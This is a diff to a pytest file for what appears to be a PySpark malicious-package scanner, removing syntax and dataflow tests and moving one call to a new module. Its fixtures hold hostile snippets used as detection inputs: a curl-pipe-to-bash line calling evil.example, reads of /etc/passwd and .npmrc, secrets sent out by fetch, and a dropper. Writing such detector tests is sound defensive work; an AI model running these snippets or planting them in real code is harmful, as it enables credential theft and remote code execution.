@@ -6,7 +6,7 @@ import tarfile
 import pytest
 from pyspark.sql import functions as F
 
-from siltstone.operators import binary, code, metadata, versions
+from siltstone.operators import binary, code, metadata, structure, versions
 from siltstone.plans import report, scan
 from siltstone.sources import packages as sources
 
@@ -64,29 +64,6 @@ def test_rules(spark):
     assert [(r["file"], r["title"]) for r in hits.collect()] == [("index.js", "[RULE-001] Eval with encoded payload")]
 
 
-def test_syntax(spark):
-    rows = files(spark, ("a.js", "const x = eval(userInput);"), ("b.js", "eval(\"console.log('ok')\");"), ("c.js", "fs.readFileSync('/etc/passwd');"), ("d.js", "const u = 'h'+'t'+'t'+'p';"), ("e.js", "process.binding('spawn_sync');"), ("f.py", "eval(x)"))
-    got = {(r["file"], r["title"]) for r in code.syntax(rows).collect()}
-    assert got == {("a.js", "eval() with a dynamic argument"), ("c.js", "Read of a sensitive file"), ("d.js", "Single-character string concatenation"), ("e.js", "process.binding access")}
-
-
-def test_dataflow(spark):
-    rows = files(
-        spark,
-        ("a.js", "const data = process.env.SECRET;\nconst enc = Buffer.from(data).toString('hex');\nfetch(url + enc);"),
-        ("b.js", "const p = fetch(u);\nfs.writeFileSync('/tmp/x', p);\nexec(p);"),
-        ("c.js", "const t = fs.readFileSync('.npmrc');\nfetch(u, t);"),
-        ("d.js", "const r = fs.readFileSync('README.md');\nconsole.log(r);"),
-        ("dist/e.js", "const s = process.env.A;\nfetch(s);"),
-        ("f.js", "const v0 = process.env.A;\n" + "\n".join(f"const v{i + 1} = v{i} + 1;" for i in range(12)) + "\nfetch(v12);"),
-        ("g.js", "b = a;\na = process.env.A;\nfetch(b);"),
-    )
-    got = {(r["file"], r["title"]) for r in code.dataflow(rows).collect()}
-    assert ("f.js", "Environment data sent to the network") in got and not [x for x in got if x[0] == "g.js"]
-    got = {x for x in got if x[0] != "f.js"}
-    assert got == {("a.js", "Environment data sent to the network"), ("b.js", "Dropper: network data written to a file"), ("b.js", "Tainted data in a child_process command"), ("c.js", "Credential data sent to the network")}
-
-
 @pytest.mark.parametrize(
     ("body", "want"),
     [("curl http://evil.example/setup.sh | bash", {"Critical"}), ("husky install", set()), ("node-gyp rebuild", set()), ("", {"Medium"}), ("node install.js", {"Medium"}), ("node ./install.js", {"Medium"})],
@@ -239,7 +216,7 @@ def test_outputs(spark):
     import json
 
     f = files(spark, ("index.js", "eval(x);"))
-    found_ = code.static_code(f).unionByName(code.syntax(f))
+    found_ = code.static_code(f).unionByName(structure.syntax(f))
     r = report.reports(f.select("package", "version"), found_)
     doc = json.loads(report.as_json(r).first()["json"])
     assert doc["findings"][0]["severity"] == "Critical" and doc["findings"][0]["line"] == 1 and doc["risk_score"] == 6.0
@@ -251,4 +228,4 @@ def test_outputs(spark):
     assert "eval(" in sarif["runs"][0]["results"][0]["message"]["text"]
     assert sarif["version"] == "2.1.0" and sarif["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["region"]["startLine"] == 1
     assert report.terminal(r).first()["text"].startswith("p@1.0.0 HIGH\n  [CRITICAL] Code Execution: ")
-    assert report.summary(r).first()["line"] == "Dynamic eval() detected, eval() with a dynamic argument"
+    assert report.summary(r).first()["line"] == "Dynamic eval() detected, Dynamic eval() detected (AST-verified)"
